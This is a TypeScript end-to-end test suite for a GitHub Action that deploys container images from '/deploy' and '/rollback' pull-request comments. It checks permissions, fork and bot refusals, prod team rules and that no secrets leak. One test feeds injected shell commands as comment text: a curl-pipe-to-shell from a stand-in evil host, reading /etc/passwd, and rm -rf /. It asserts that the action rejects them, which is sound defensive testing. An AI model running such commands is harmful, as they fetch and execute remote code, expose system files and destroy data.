import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type ArtifactStore, openStore } from '@flow-actions/oci-store';
import { type ActionRun, runAction } from '@flow-actions/runner-harness';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { POLICY_EXAMPLE } from '../../actions/deploy-command/src/policy';
import { releasedAction } from '../e2e/release-tree';
import { type GitHubFake, type JsonRecord, startGitHubFake } from '../github-fake';
import { type RunningRegistry, startRegistry } from '../services';
import { seedImage } from '../support/artifacts';
import { expectNoLeak } from '../support/leaks';
import { skopeoDigest } from '../support/skopeo';

// End to end: the bundled deploy-command, run as the runner runs it on an issue_comment event,
// against the real registry (htpasswd) on loopback and the GitHub fake checked against GitHub's
// description. Then promote, bundled too, deploys what accept resolved: by digest, so a push in
// between changes nothing.

const GITHUB_TOKEN = 'ghs_deployCommandJobToken0123456';
const TEAMS_TOKEN = 'ghs_deployCommandTeamsToken98765';
const POLICY = `# Environments that take deploys from comments.\n${POLICY_EXAMPLE}\n`;

let registry: RunningRegistry;
let github: GitHubFake;
let release: string;
let develop: string;
let releaseStore: ArtifactStore;
let developStore: ArtifactStore;
const digests: Record<string, string> = {};
let pullHead = '';

const sha = (char: string) => char.repeat(40);
const skopeoCreds = () => ({ creds: `${registry.username}:${registry.password}` });

beforeAll(async () => {
  registry = await startRegistry({ auth: 'htpasswd' });
  github = await startGitHubFake({
    token: GITHUB_TOKEN,
    repository: 'acme/api',
    otherTokens: { [TEAMS_TOKEN]: 'teams-reader[bot]' },
  });
  release = `${registry.host}/acme/api`;
  develop = `${registry.host}/acme/api-develop`;
  const credentials = { username: registry.username, password: registry.password };
  releaseStore = await openStore(release, credentials);
  developStore = await openStore(develop, credentials);

  github.seed.file('main', '.github/flow-environments.yml', POLICY);
  github.seed.collaborator('alice', 'write');
  github.seed.collaborator('rob', 'maintain');
  github.seed.collaborator('ada', 'admin');
  github.seed.collaborator('rita', 'read');
  github.seed.collaborator('tom', 'triage');
  github.seed.collaborator('renovate[bot]', 'write');
  github.seed.teamMember('acme/release-managers', 'rob');
  github.seed.teamMember('acme/release-managers', 'ivy', 'pending');
  github.seed.collaborator('ivy', 'write');

  // Pull request #12 of alice, built as pull-request.yml builds it: <sha> and pr-12 in develop.
  const pull = github.seed.pullRequest({
    number: 12,
    title: 'feat: cart',
    body: null,
    head: 'feature/cart',
    base: 'main',
    author: 'alice',
  });
  pullHead = String((pull.head as JsonRecord).sha);
  digests.pr12 = (await seedImage(developStore, { revision: pullHead })).digest;
  // pr-12 is the same artifact as its sha tag, as build-by-sha writes both.
  const built = await developStore.getManifest(digests.pr12);
  if (built) await developStore.putManifest('pr-12', built);
  // A fork's pull request, by mallory, who has no access.
  github.seed.pullRequest({
    number: 13,
    title: 'fix: typo',
    body: null,
    head: 'patch-1',
    base: 'main',
    author: 'mallory',
    forkOwner: 'mallory',
  });
  // The PR's own branch carries a policy that would let pull requests into prod: never read.
  github.seed.file(
    'feature/cart',
    '.github/flow-environments.yml',
    POLICY.replace("sources: ['v*']", 'sources: [pull-request]'),
  );

  // Releases: v1.3.0 (A), rc-3 and v1.4.0 (B); prod runs v1.4.0.
  digests.a = (await seedImage(releaseStore, { revision: sha('a'), tag: 'v1.3.0' })).digest;
  digests.b = (await seedImage(releaseStore, { revision: sha('b'), tag: 'v1.4.0' })).digest;
  for (const tag of ['rc-3', 'prod', sha('b').slice(0, 7)]) {
    const manifest = await releaseStore.getManifest('v1.4.0');
    if (manifest) await releaseStore.putManifest(tag, manifest);
  }
}, 120_000);

afterAll(async () => {
  await github?.stop();
  await registry?.stop();
});

beforeEach(() => {
  github.requests.length = 0;
});

interface Comment {
  body: string;
  author?: string;
  authorType?: 'User' | 'Bot';
  issueNumber?: number;
  /** Default: a pull request. */
  onIssue?: boolean;
  action?: 'created' | 'edited';
}

/** The issue_comment payload GitHub sends, for a comment the fake knows (reactions need it). */
function commentEvent(comment: Comment): { payload: object; id: number } {
  const author = comment.author ?? 'alice';
  const stored = github.seed.issueComment({
    issueNumber: comment.issueNumber ?? 12,
    body: comment.body,
    author,
    ...(comment.authorType ? { authorType: comment.authorType } : {}),
  });
  const repository = github.state.repository;
  return {
    id: Number(stored.id),
    payload: {
      action: comment.action ?? 'created',
      comment: stored,
      issue: {
        number: comment.issueNumber ?? 12,
        title: 'feat: cart',
        ...(comment.onIssue
          ? {}
          : { pull_request: { url: 'https://api.github.com/repos/acme/api/pulls/12' } }),
      },
      repository,
      sender: stored.user,
    },
  };
}

function runDeployCommand(
  inputs: Record<string, string>,
  payload: object,
  eventName = 'issue_comment',
): Promise<ActionRun> {
  return runAction({
    actionDir: releasedAction('deploy-command'),
    apiUrl: github.url,
    githubToken: GITHUB_TOKEN,
    repository: 'acme/api',
    eventName,
    payload,
    inputs: { 'github-token': GITHUB_TOKEN, ...inputs },
    env: { DOCKER_CONFIG: join(tmpdir(), 'flow-no-docker-config') },
  });
}

function accept(comment: Comment, inputs: Record<string, string> = {}) {
  const event = commentEvent(comment);
  return {
    id: event.id,
    run: runDeployCommand(
      {
        phase: 'accept',
        image: release,
        'develop-image': develop,
        username: registry.username ?? '',
        password: registry.password ?? '',
        'teams-token': TEAMS_TOKEN,
        ...inputs,
      },
      event.payload,
    ),
    payload: event.payload,
  };
}

const reactions = (commentId: number) =>
  (github.state.commentReactions.get(commentId) ?? []).map((reaction) => reaction.content);
const replyOf = (run: ActionRun) =>
  String(
    github.state.issueComments.find(({ comment }) => String(comment.id) === run.outputs['reply-comment-id'])
      ?.comment.body,
  );
/** What the step wrote to GitHub: nothing but reactions and replies, ever. */
const writes = () =>
  github.requests
    .filter((request) => request.method !== 'GET')
    .map((request) => `${request.method} ${request.operationId}`);

async function expectClean(run: ActionRun): Promise<void> {
  expect(run.errors).toEqual([]);
  expect(run.exitCode).toBe(0);
  expect(github.schemaViolations).toEqual([]);
  await expectNoLeak(run, [GITHUB_TOKEN, TEAMS_TOKEN, registry.password ?? '']);
}

describe('deploy-command accept (bundled, real registry, GitHub fake)', () => {
  it('an allowed user deploys pr-12: the digest of its head’s artifact, resolved once; a later push changes nothing', async () => {
    const { id, run: running } = accept({ body: '/deploy pr-12 to appdev\nthanks!' });
    const run = await running;
    await expectClean(run);
    expect(run.outputs).toMatchObject({
      accepted: 'true',
      command: 'deploy',
      environment: 'appdev',
      source: 'pr-12',
      image: develop,
      digest: digests.pr12,
      ref: `${develop}@${digests.pr12}`,
      tag: pullHead.slice(0, 7),
      commit: pullHead,
      'pull-request': '12',
      'manifest-path': 'envs/appdev',
      'from-digest': '',
      'comment-id': String(id),
      reason: '',
    });
    expect(reactions(id)).toEqual(['eyes']);
    expect(writes()).toEqual(['POST reactions/create-for-issue-comment', 'POST issues/create-comment']);
    expect(replyOf(run)).toContain(`| to | \`${digests.pr12}\` |`);
    expect(replyOf(run)).toContain(`built from \`${pullHead}\``);
    // The policy was read from main, by name, never from the pull request's branch.
    expect(
      github.requests.some((request) =>
        request.url.includes('/contents/.github%2Fflow-environments.yml?ref=main'),
      ),
    ).toBe(true);

    // A push after the comment: a new head, built, pr-12 moves to it.
    const pushed = github.seed.push(12, { message: 'feat: cart, later' });
    const later = await seedImage(developStore, { revision: pushed });
    const moved = await developStore.getManifest(later.digest);
    if (moved) await developStore.putManifest('pr-12', moved);
    // The deploy job promotes what accept resolved, by digest: still the commented head's artifact.
    const promote = await runAction({
      actionDir: releasedAction('promote'),
      repository: 'acme/api',
      inputs: {
        image: run.outputs.image ?? '',
        from: run.outputs.digest ?? '',
        to: run.outputs.environment ?? '',
        username: registry.username ?? '',
        password: registry.password ?? '',
        'github-token': '',
      },
      env: { DOCKER_CONFIG: join(tmpdir(), 'flow-no-docker-config') },
    });
    expect(promote.errors).toEqual([]);
    expect(promote.exitCode).toBe(0);
    expect(await skopeoDigest(`${develop}:appdev`, skopeoCreds())).toBe(digests.pr12);
    expect(await skopeoDigest(`${develop}:pr-12`, skopeoCreds())).toBe(later.digest);

    // report: the reply becomes the result table; the final reaction is the rocket.
    const report = await runDeployCommand(
      {
        phase: 'report',
        'reply-comment-id': run.outputs['reply-comment-id'] ?? '',
        outcome: 'success',
        environment: run.outputs.environment ?? '',
        source: run.outputs.source ?? '',
        digest: run.outputs.digest ?? '',
        commit: run.outputs.commit ?? '',
        'from-digest': run.outputs['from-digest'] ?? '',
        'manifest-commit': 'c0ffee1',
        'deployment-url': 'https://github.com/acme/api/deployments/appdev',
      },
      commentPayloadFor(id),
    );
    await expectClean(report);
    expect(report.outputs['reply-comment-id']).toBe(run.outputs['reply-comment-id']);
    const table = replyOf(report);
    expect(table).toContain('**Deployed `pr-12` to `appdev`.**');
    expect(table).toContain(`| from → to | nothing → \`${digests.pr12}\` |`);
    expect(table).toContain('| manifest commit | `c0ffee1` |');
    expect(table).toContain('| deployment | https://github.com/acme/api/deployments/appdev |');
    expect(reactions(id)).toEqual(['eyes', 'rocket']);
  });

  it('runs on least privilege: accept with contents: read, issues: write, pull-requests: read; report with issues: write', async () => {
    github.permissions = { contents: 'read', issues: 'write', 'pull-requests': 'read' };
    try {
      const { id, run: running } = accept({ body: '/deploy to appdev' });
      const run = await running;
      await expectClean(run);
      // The pull request's head as it is now (an earlier test pushed to it).
      const head = github.state.pullRequests.find((pull) => pull.number === 12)?.head as JsonRecord;
      expect(run.outputs).toMatchObject({ accepted: 'true', commit: String(head.sha) });
      github.permissions = { issues: 'write' };
      const report = await runDeployCommand(
        {
          phase: 'report',
          outcome: 'success',
          'reply-comment-id': run.outputs['reply-comment-id'] ?? '',
          environment: 'appdev',
          source: 'pr-12',
        },
        commentPayloadFor(id),
      );
      await expectClean(report);
      expect(reactions(id)).toEqual(['eyes', 'rocket']);
    } finally {
      github.permissions = undefined;
    }
  });

  it('a failed deploy is reported with the confused reaction', async () => {
    const { id } = commentEvent({ body: '/deploy pr-12 to appdev' });
    const report = await runDeployCommand(
      {
        phase: 'report',
        outcome: 'failure',
        environment: 'appdev',
        source: 'pr-12',
        digest: digests.pr12 ?? '',
      },
      commentPayloadFor(id),
    );
    await expectClean(report);
    expect(replyOf(report)).toContain('**The deploy of `pr-12` to `appdev` did not finish (failure)**');
    expect(reactions(id)).toEqual(['confused']);
  });

  it.each([
    [
      'rita',
      'read',
      '`rita` has read access to acme/api: deploying from a comment needs write, maintain or admin.',
    ],
    [
      'tom',
      'triage',
      '`tom` has triage access to acme/api: deploying from a comment needs write, maintain or admin.',
    ],
    [
      'eve',
      'none',
      '`eve` has no access to acme/api: deploying from a comment needs write, maintain or admin.',
    ],
  ])('%s (%s) is refused with a reply, and nothing else happens', async (author, _role, reason) => {
    const tagsBefore = await developStore.listTags();
    const { id, run: running } = accept({ body: '/deploy pr-12 to appdev', author });
    const run = await running;
    await expectClean(run);
    expect(run.outputs).toMatchObject({ accepted: 'false', command: 'deploy', digest: '', reason });
    expect(replyOf(run)).toBe(`**Not deployed:** ${reason}`);
    expect(reactions(id)).toEqual(['eyes', 'confused']);
    expect(writes()).toEqual([
      'POST reactions/create-for-issue-comment',
      'POST issues/create-comment',
      'POST reactions/create-for-issue-comment',
    ]);
    expect(await developStore.listTags()).toEqual(tagsBefore);
  });

  it('a fork’s author is refused on their pull request; nobody deploys a fork’s pull request', async () => {
    const own = await accept({ body: '/deploy to appdev', author: 'mallory', issueNumber: 13 }).run;
    await expectClean(own);
    expect(own.outputs.reason).toBe(
      '`mallory` opened this pull request from the fork `mallory/api`: deploys from comments are for people with write access to acme/api.',
    );
    const other = await accept({ body: '/deploy pr-13 to appdev', author: 'alice' }).run;
    await expectClean(other);
    expect(other.outputs.accepted).toBe('false');
    expect(other.outputs.reason).toBe(
      'Pull request #13 comes from the fork `mallory/api`: its code is not deployed from a comment; push its branch to this repository first.',
    );
  });

  it('a bot is refused, even one with write access', async () => {
    const { id, run: running } = accept({ body: '/deploy pr-12 to appdev', author: 'renovate[bot]' });
    const run = await running;
    await expectClean(run);
    expect(run.outputs.reason).toBe(
      '`renovate[bot]` is a bot: deploys from comments are for people with write access.',
    );
    expect(reactions(id)).toEqual(['eyes', 'confused']);
  });

  it('prod refuses pr-12, and takes v1.4.0 only from a member of the team', async () => {
    const pull = await accept({ body: '/deploy pr-12 to prod', author: 'rob' }).run;
    await expectClean(pull);
    expect(pull.outputs.reason).toBe('`prod` accepts tags v* only; `pr-12` is a pull request.');

    const writer = await accept({ body: '/deploy v1.4.0 to prod', author: 'alice' }).run;
    await expectClean(writer);
    expect(writer.outputs.reason).toBe(
      '`prod` is for members of acme/release-managers; `alice` is not an active member.',
    );
    const invited = await accept({ body: '/deploy v1.4.0 to prod', author: 'ivy' }).run;
    expect(invited.outputs.reason).toBe(
      '`prod` is for members of acme/release-managers; `ivy` is not an active member.',
    );

    const member = await accept({ body: '/deploy v1.4.0 to prod', author: 'rob' }).run;
    await expectClean(member);
    expect(member.outputs).toMatchObject({
      accepted: 'true',
      environment: 'prod',
      source: 'v1.4.0',
      image: release,
      digest: digests.b,
      tag: 'v1.4.0',
      commit: sha('b'),
      'pull-request': '',
      'manifest-path': 'envs/prod',
      'from-digest': digests.b,
    });

    const noTeamsToken = await accept(
      { body: '/deploy v1.4.0 to prod', author: 'rob' },
      { 'teams-token': '' },
    ).run;
    expect(noTeamsToken.outputs.reason).toBe(
      '`prod` is for members of acme/release-managers, and this workflow cannot read team membership: give the deploy-command step a teams-token (organization members: read).',
    );
  });

  it('/rollback prod resolves the version before the one prod runs; /rollback prod to v1.3.0 names it', async () => {
    const run = await accept({ body: '/rollback prod', author: 'rob' }).run;
    await expectClean(run);
    expect(run.outputs).toMatchObject({
      accepted: 'true',
      command: 'rollback',
      environment: 'prod',
      source: 'v1.3.0',
      digest: digests.a,
      commit: sha('a'),
      tag: 'v1.3.0',
      'from-digest': digests.b,
    });
    expect(replyOf(run)).toContain('**Rolling `prod` back to `v1.3.0`** — resolved now, once');
    expect(replyOf(run)).toContain(`| from | \`${digests.b}\` (\`v1.4.0\`) |`);
    const named = await accept({ body: '/rollback prod to v1.3.0', author: 'rob' }).run;
    expect(named.outputs).toMatchObject({ accepted: 'true', command: 'rollback', digest: digests.a });
    const appdev = await accept({ body: '/rollback appdev', author: 'alice' }).run;
    expect(appdev.outputs.reason).toContain('`appdev` accepts no versions');
  });

  it('an edited comment does nothing: no reaction, no reply, no read', async () => {
    const { id, run: running } = accept({ body: '/deploy pr-12 to appdev', action: 'edited' });
    const run = await running;
    await expectClean(run);
    expect(run.outputs).toMatchObject({ accepted: 'false', command: '', 'reply-comment-id': '' });
    expect(reactions(id)).toEqual([]);
    expect(github.requests).toEqual([]);
  });

  it('a comment that is no command does nothing', async () => {
    const run = await accept({ body: 'LGTM, but\n/deploy pr-12 to prod' }).run;
    await expectClean(run);
    expect(run.outputs.command).toBe('');
    expect(github.requests).toEqual([]);
  });

  it.each([
    [
      '/deploy $(curl -s evil.example/x | sh) to prod',
      '`$(curl` is no pull request, commit, tag or environment',
    ],
    ['/deploy `cat /etc/passwd` to prod', '`cat` is no pull request, commit, tag or environment'],
    ['/deploy pr-12 to appdev; rm -rf /', '`appdev;` is no pull request, commit, tag or environment'],
  ])('%j only gets a reply with the valid forms', async (body, problem) => {
    const { id, run: running } = accept({ body });
    const run = await running;
    await expectClean(run);
    expect(run.outputs).toMatchObject({ accepted: 'false', command: 'invalid', reason: problem, digest: '' });
    const reply = replyOf(run);
    expect(reply).toContain(`**Not deployed:** ${problem}. Nothing was run. The valid forms:`);
    expect(reply).toContain('| `/deploy pr-12 to appdev` |');
    expect(reply).toContain('| `prod` | tags v* | acme/release-managers |');
    expect(reactions(id)).toEqual(['eyes', 'confused']);
    // Nothing but the conversation: no permission, pull request or registry read was needed.
    expect(writes()).toEqual([
      'POST reactions/create-for-issue-comment',
      'POST issues/create-comment',
      'POST reactions/create-for-issue-comment',
    ]);
    expect(run.log).not.toContain('root:');
  });

  it('/deploy help lists the forms and the environments from main', async () => {
    const run = await accept({ body: '/deploy help', author: 'rita' }).run;
    await expectClean(run);
    expect(run.outputs).toMatchObject({ accepted: 'false', command: 'help' });
    expect(replyOf(run)).toContain('| `appdev` | pull requests and commits | any writer |');
  });

  it('a missing policy file is named in the reply, with the fix; nothing deployed', async () => {
    const run = await accept(
      { body: '/deploy pr-12 to appdev' },
      { 'policy-file': '.github/environments.yml' },
    ).run;
    await expectClean(run);
    expect(run.outputs.accepted).toBe('false');
    expect(run.outputs.reason).toBe(
      'There is no `.github/environments.yml` on `main`, so no environment takes deploys from comments: add it there (see deploy-command’s README, “The policy file”).',
    );
  });

  it('an environment the policy does not name, and an artifact that does not exist, are refused', async () => {
    const unknown = await accept({ body: '/deploy pr-12 to staging' }).run;
    expect(unknown.outputs.reason).toBe(
      'There is no environment `staging` in `.github/flow-environments.yml` on `main`: use one of appdev, demo, prod.',
    );
    const missing = await accept({ body: '/deploy 1234567 to appdev' }).run;
    expect(missing.outputs.reason).toBe(
      `Commit \`1234567\` has no artifact (no tag \`1234567\` in ${release} or ${develop}): deploy a commit that was built.`,
    );
    const onIssue = await accept({ body: '/deploy to appdev', onIssue: true, issueNumber: 40 }).run;
    expect(onIssue.outputs.reason).toBe(
      'On an issue, say which pull request to deploy: `/deploy pr-12 to <environment>`.',
    );
    const demo = await accept({ body: '/deploy RC-3 to Demo', author: 'ada' }).run;
    expect(demo.outputs.reason).toBe('`demo` accepts tags rc-* only; `RC-3` is a tag it does not accept.');
    const rc = await accept({ body: '/deploy rc-3 to Demo', author: 'ada' }).run;
    expect(rc.outputs).toMatchObject({
      accepted: 'true',
      environment: 'demo',
      digest: digests.b,
      tag: 'rc-3',
    });
  });

  it('a registry that refuses the credentials fails the step, with a reply, and shows no secret', async () => {
    const wrong = 'wrongRegistryPassword4242';
    const { id, run: running } = accept({ body: '/deploy pr-12 to appdev' }, { password: wrong });
    const run = await running;
    expect(run.exitCode).toBe(1);
    expect(run.errors).toHaveLength(1);
    expect(run.outputs.accepted).toBe('false');
    expect(reactions(id)).toEqual(['eyes', 'confused']);
    const reply = String(github.state.issueComments.at(-1)?.comment.body);
    expect(reply).toMatch(/^\*\*Not deployed:\*\* the command could not be checked \(.+\); see the run\.$/);
    for (const text of [reply, run.log, run.stderr, run.summary]) expect(text).not.toContain(wrong);
    await expectNoLeak(run, [GITHUB_TOKEN, TEAMS_TOKEN, wrong, registry.password ?? '']);
  });

  it('an accept that fails unexpectedly hands its reply to report: one reply, rewritten, and the confused reaction', async () => {
    const {
      id,
      run: running,
      payload,
    } = accept({ body: '/deploy pr-12 to appdev' }, { password: 'wrongRegistryPassword4242' });
    const run = await running;
    expect(run.exitCode).toBe(1);
    const replies = () => github.state.issueComments.filter(({ comment }) => Number(comment.id) > id);
    expect(replies()).toHaveLength(1);
    // Set before the step failed, so chatops.yml's report job (needs.accept.result == 'failure')
    // rewrites this reply instead of writing a second one.
    expect(run.outputs).toMatchObject({
      accepted: 'false',
      command: 'deploy',
      'comment-id': String(id),
      'reply-comment-id': String(replies()[0]?.comment.id),
    });
    const report = await runDeployCommand(
      { phase: 'report', outcome: 'failure', 'reply-comment-id': run.outputs['reply-comment-id'] ?? '' },
      payload,
    );
    await expectClean(report);
    expect(replies()).toHaveLength(1);
    expect(report.outputs['reply-comment-id']).toBe(run.outputs['reply-comment-id']);
    expect(replyOf(report)).toMatch(/^\*\*The deploy command did not finish \(failure\)\*\*: see the run\./);
    expect(reactions(id)).toEqual(['eyes', 'confused']);
  });

  it('refuses to run on another event than issue_comment', async () => {
    const run = await runDeployCommand(
      { phase: 'accept', image: release },
      { action: 'opened' },
      'pull_request_target',
    );
    expect(run.exitCode).toBe(1);
    expect(run.errors).toEqual([
      'deploy-command reads a comment, but this run is for the pull_request_target event: run it on: issue_comment (types: [created]).',
    ]);
    expect(github.requests).toEqual([]);
  });
});

/** The payload of a comment already seeded, for the report phase (the same event, a later job). */
function commentPayloadFor(id: number): object {
  const found = github.state.issueComments.find(({ comment }) => Number(comment.id) === id);
  if (!found) throw new Error(`no comment ${id}`);
  return {
    action: 'created',
    comment: found.comment,
    issue: { number: found.issueNumber, pull_request: {} },
    repository: github.state.repository,
    sender: found.comment.user,
  };
}
